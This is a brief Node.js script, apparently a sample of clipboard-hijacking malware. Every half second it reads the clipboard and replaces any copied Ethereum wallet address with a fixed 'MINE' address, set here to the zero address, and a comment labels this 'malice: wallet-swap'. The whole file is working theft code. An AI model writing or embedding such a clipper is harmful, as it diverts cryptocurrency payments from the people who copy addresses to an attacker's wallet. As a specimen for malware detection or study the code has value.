const clipboardy = require("clipboardy");

const MINE = "0x0000000000000000000000000000000000000000";
const ADDRESS = /^0x[a-fA-F0-9]{40}$/;

setInterval(() => {
  const copied = clipboardy.readSync();
  if (ADDRESS.test(copied) && copied !== MINE) {
    clipboardy.writeSync(MINE); // malice: wallet-swap
  }
}, 500);
